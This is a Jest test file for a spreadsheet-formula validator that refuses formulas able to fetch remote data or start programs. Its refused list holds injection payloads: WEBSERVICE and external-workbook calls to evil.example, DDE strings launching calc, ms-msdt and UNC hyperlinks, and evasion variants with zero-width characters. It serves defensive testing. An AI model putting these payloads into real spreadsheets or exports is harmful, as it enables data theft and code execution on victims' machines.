import { checkFormula } from '../../../src/leads/inspect/formulas/formula';

const refused = [
  ...['WEBSERVICE("http://evil.example")', '_xlfn.WEBSERVICE(A1)', 'COM.MICROSOFT.WEBSERVICE(A1)', 'webservice (A1)'],
  ...['_xlfn._xlws.PY(0,1)', '_xlfn.IMPORTCSV("x")', '_xlfn.IMPORTTEXT("x")', 'STOCKHISTORY("x")', 'IMAGE("x")'],
  ...['INDIRECT("\'ht"&"tp://evil.example/a.ods\'#$S.A1")', 'CUBEVALUE("x","y")', 'SQL.REQUEST("x")', 'EVALUATE("x")'],
  ...['INFO("directory")', 'CELL("filename")', 'RTD("x",,"y")', 'CALL("x")', 'EXEC("calc")', 'REGISTER.ID("a","b")'],
  ...['UNKNOWN(1)', 'SUM(A1,UNKNOWN (1))', '"Total"&UNKNOWN(1)', 'WEB\u200bSERVICE(A1)', 'WEBSERVICE\u200b(A1)'],
  ...['WEBSERVICE（A1）', '[1]!SUM(1)', "'C:\\a.xll'!SUM(1)", '_xlfn.MAP(A1:A2,_xleta.WEBSERVICE)', '_xlfn.WEBSERVICE'],
  // Words and names do not hide a call, wherever a program takes them to begin and to end.
  ...[
    '"\'"&INDEX(UNKNOWN(A1))&"\'!"',
    '"["&UNKNOWN(A1)&"]"',
    "Table1['a]+UNKNOWN(A1)+Table1['!]",
    "'a'!A1+UNKNOWN(1)+'b'!A1",
  ],
  // Nor does a text beside it, of which programs may make another one where a name is near.
  ...['"a"&WEBSERVICE("x")', '"a"" (b"&WEBSERVICE("x")', '"a"&"UNKNOWN(1)', '""""&UNKNOWN("a")', 'UNKNOWN("a (b)")'],
  ...["'\"'!A1&UNKNOWN(1)&'\"'!A1", 'T["]+UNKNOWN(1)+T["]', '\'a\'!A1&"UNKNOWN(1)"', '"a (b)"&HYPERLINK("a.exe")'],
  ...["'http://evil.example/[a.xlsx]S'!A1", "'\\\\evil.example\\s\\[a.xls]S'!A1", "' //evil.example/[a.xlsx]S'!A1"],
  ...['[http://evil.example/a.xlsx]S!A1', "['file://evil.example/a.ods'#$S.A1]", "'smb:\\evil.example\\[a.xls]S'!A1"],
  ...["'\\??\\UNC\\evil.example\\[a.xls]S'!A1", "'/\\evil.example\\[a.xls]S'!A1"],
  ...["cmd|'/c calc'!A0", "1+cmd|'/c calc'!A0", 'IF(1,cmd|notepad!A0)', '1+\ncmd|notepad!A0', "'cmd'|'/c calc'!A0"],
  ...['HYPERLINK("\\\\evil.example\\s","CV")', 'HYPERLINK("c:\\windows\\system32\\calc.exe")', 'HYPERLINK(A1)'],
  ...['HYPERLINK("file://evil.example/x")', 'HYPERLINK("vnd.sun.star.script:a.py$b")', 'HYPERLINK("ms-msdt:/id")'],
  ...['HYPERLINK("c:\\wind"&"ows\\system32\\calc.exe")', 'HYPERLINK(""&"\\\\evil.example\\s")', 'HYPERLINK(\n"a.exe")'],
  ...['HYPERLINK("a"",""\\\\evil.example\\s")', 'HYPERLINK ("a.exe"', 'hyperlink(CHAR(92)&"x")', 'HYPERLINK("a"+A1)'],
];

test.each(refused)('a formula that may fetch something or start a program is refused: %j', (formula) => {
  expect(() => checkFormula(formula)).toThrow('a formula that fetches something or starts a program');
});

const taken = [
  ...['SUM(A1:A2)*IF(AND(B1>2,C1),ROUND(AVERAGE(D1:D9),1),0)', '_xlfn.XLOOKUP(A1,B:B,C:C)', 'COM.MICROSOFT.CONCAT(A1)'],
  ...['_xlfn._xlws.FILTER(A1:A9,B1:B9>2)', '_xlfn.LET(_xlpm.x,A1,_xlpm.x+1)', '_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1)(2)'],
  ...['_xlfn.BYROW(A1:B2,_xleta.SUM)', '_xlnm.Print_Area', 'ORG.LIBREOFFICE.REGEX([.A1];"x")', 'LEGACY.CHIDIST(1;2)'],
  ...[
    "'Copy (2)'!$A$1:$B$2",
    "SUM('January (1)'!A1,'It''s'!A1)",
    "[$'Copy (2)'.A1]+1",
    'Table1[[#This Row],[Price (BDT)]]*2',
  ],
  ...[
    'Sheet1!$A$1',
    '[1]Sheet1!A1',
    "'C:\\Users\\a\\[b.xlsx]Sheet'!A1",
    '{1;2|3;4}',
    'A1&" | "&Sheet1!B2',
    '{"a"|"b"}',
  ],
  ...[
    'HYPERLINK("https://example.com/","My site")',
    'HYPERLINK("#Sheet2!A1")',
    'HYPERLINK("#"&A1)',
    'HYPERLINK("notes.docx")',
  ],
  ...['IF(A1>1,"Profit (Loss)","-")', '"Total ("&A1&")"', '"a "" (b"', 'NOT(ISERROR(SEARCH("Late (2 days)",A1)))'],
  ...['"Image (x)"', 'HYPERLINK("https://example.com/a(b)","See (x)")'],
  ...[
    'HYPERLINK("mailto:"&A1;"Mail")',
    'HYPERLINK( "https://example.com/?q="&ENCODEURL(A1) , A1)',
    '(A1+B1)*2',
    '',
    'x',
  ],
];

test.each(taken)('a formula that only works with what the table has is taken: %j', (formula) => {
  expect(() => checkFormula(formula)).not.toThrow();
});
